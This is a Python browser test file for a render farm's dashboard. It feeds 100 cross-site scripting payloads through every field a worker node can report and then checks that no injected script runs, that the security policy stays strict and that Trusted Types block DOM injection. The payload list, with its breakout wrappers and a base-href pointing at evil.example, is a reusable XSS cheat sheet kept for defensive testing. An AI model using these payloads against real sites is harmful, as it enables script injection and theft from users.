"""A hundred ways to make a page run somebody else's script, through every word that a stranger puts into a farm: none runs."""

import itertools
from typing import Any

from outside import Running

from browser.visiting import Visit

MARK = "window.owned=1"
CORES = (
    f"<script>{MARK}</script>", f"<img src=x onerror={MARK}>", f"<svg onload={MARK}>", f"<svg><script>{MARK}</script></svg>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>", f"<a href=javascript:{MARK} autofocus onfocus={MARK}>x</a>",
    f"<details open ontoggle={MARK}>", f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<input autofocus onfocus={MARK}>", f"<body onload={MARK}>", f"<video src=x onerror={MARK}></video>", f"<object data=javascript:{MARK}>",
    f"<base href=//evil.example/><script src=x></script><b onclick={MARK}>", f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
    f"<template><img src=x onerror={MARK}></template>", f"<form action=javascript:{MARK}><button autofocus onfocus={MARK}>",
    f"{{{{constructor.constructor('{MARK}')()}}}}", f"${{{MARK}}}", f"javascript:{MARK}", f"<link rel=stylesheet href=data:,*%7Bx:expression({MARK})%7D>",
)  # fmt: skip
WRAPS = ("{}", '">{}', "'>{}", "</textarea></title></script>{}", '" onmouseover=window.owned=1 x="{}')
PAYLOADS = [wrap.format(core) for core, wrap in itertools.product(CORES, WRAPS)]
EACH = 5
SUSPECTS = """() => [...document.querySelectorAll('*')].filter((one) =>
  [...one.attributes].some((at) => at.name.startsWith('on') || /^\\s*javascript:/i.test(at.value))
  || (one.localName === 'script' && !one.getAttribute('src')?.startsWith('/assets/'))
  || ['iframe', 'object', 'embed', 'base', 'math', 'template', 'video', 'details'].includes(one.localName)
  || (one.localName === 'svg' && !one.closest('[class]'))
).map((one) => one.outerHTML.slice(0, 200))"""
"""What stands in no page of ours; elements that could have been put into one, whether or not the policy lets them run."""


class Worker:
    """A worker that says what it likes."""

    def __init__(self, farm: Running) -> None:
        self.farm = farm
        self.node = ""

    def post(self, path: str, **sent: Any) -> Any:
        answer = self.farm.http("POST", path, **sent)
        assert answer.status_code < 300, answer.text
        return answer.json()

    def spoil(self, number: int, words: list[str]) -> int:
        """One job with a word in each place; its number."""
        one, two, three, four, five = words
        node = self.post("/v1/nodes", json={
            "fingerprint": "print-of-a-liar", "boot_id": f"boot-{number:04}", "name": one[:200], "slots": 1,
            "labels": {"lies": "yes", "word": two[:200]}, "engines": ["ffmpeg"], "encoders": {"libx264": "", "aac": "", three: four},
            "facts": {"sandbox": five, "cpu": one},
        })  # fmt: skip
        job = self.post("/v1/jobs", json={
            "input": f"/media/{two}", "output": f"/media/out/{three}", "requires": {"lies": "yes"}, "labels": {"word": four[:200]},
            "scenario": "144p10-h264",
        })  # fmt: skip
        self.node = node["node"]
        claim = {"epoch": node["epoch"], "request": f"request-{number}"}
        (task,) = self.post(f"/v1/nodes/{node['node']}/claim", json=claim)["tasks"]
        held = {"node": node["node"], "attempt": task["attempt"]}
        self.post(f"/v1/tasks/{task['task']}/log", params={**held, "offset": 0}, content="\n".join(words).encode())
        self.post(f"/v1/tasks/{task['task']}/start", json=held)
        if number % 2:
            self.post(f"/v1/tasks/{task['task']}/fail", json={**held, "class": "input", "message": five})
        else:
            output = {
                "name": four,
                "location": f"/media/out/{three}",
                "sha256": "0" * 64,
                "size": 1,
                "streams": [{"codec": five, "kind": one}],
            }
            self.post(
                f"/v1/tasks/{task['task']}/complete", json={**held, "outputs": [output], "facts": {"duration_s": one}}
            )
        return int(job["number"])

    def leave(self) -> None:
        """Other tests look at the nodes of this farm."""
        assert self.farm.http("DELETE", f"/v1/nodes/{self.node}").status_code == 204


def test_no_word_of_a_stranger_runs_in_the_page(visit: Visit) -> None:
    assert len(PAYLOADS) == 100
    worker = Worker(visit.farm)
    visit.log_in()
    page = visit.page
    jobs = []
    for number in range(len(PAYLOADS) // EACH):
        jobs.append(worker.spoil(number, PAYLOADS[number * EACH : (number + 1) * EACH]))
        if number % 4 == 0:  # it is put in while somebody looks, too
            page.locator(f".rows .row[href$='/{jobs[-1]}']").wait_for()
            assert page.evaluate(SUSPECTS) == []
    for path in ("/", *(f"/ui/jobs/{number}" for number in jobs), f"/?show={PAYLOADS[0]}", f"/{PAYLOADS[1]}"):
        answer = page.goto(f"{visit.farm.url}{path}")
        assert answer is not None
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'; script-src 'self'" in policy
        assert "frame-ancestors 'none'" in policy
        assert "unsafe" not in policy
        if path.startswith("/ui/jobs/"):
            page.locator("#log", has_text="owned").wait_for()
        page.keyboard.press("Tab")
        assert page.evaluate(SUSPECTS) == [], path
        assert page.evaluate("window.owned") is None, path
    visit.troubles[:] = [one for one in visit.troubles if "404" not in one]  # of the page that is not there
    worker.leave()


TRIES = {
    "elements of a text": "document.body.insertAdjacentHTML('beforeend', '<img>')",
    "a document of a text": "new DOMParser().parseFromString('<img>', 'text/html')",
    "a handler of a text": "document.body.setAttribute('onclick', 'window.owned=1')",
    "a script from elsewhere": "document.createElement('script').src = '/assets/page.js'",
    "a door of its own": "trustedTypes.createPolicy('mine', { createHTML: (html) => html })",
    "the door once more": "trustedTypes.createPolicy('page', { createHTML: (html) => html })",
}
"""What a script would try first that had got in all the same."""


def test_no_text_becomes_elements_but_what_the_page_renders(visit: Visit) -> None:
    page = visit.page
    attempt = "(code) => { try { (0, () => { CODE })(); return 'done'; } catch (error) { return error.name; } }"
    page.goto("about:blank")
    told = {name: page.evaluate(attempt.replace("CODE", code)) for name, code in TRIES.items()}
    assert set(told.values()) == {"done"}, told
    visit.log_in()
    assert visit.troubles == []
    told = {name: page.evaluate(attempt.replace("CODE", code)) for name, code in TRIES.items()}
    assert set(told.values()) == {"TypeError"}, told
    # The page goes on to follow the farm, through its own door.
    visit.troubles.clear()  # the console has each of these
    page.evaluate("document.getElementById('part').replaceChildren()")
    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    page.locator(".tile").first.wait_for()
    assert visit.troubles == []
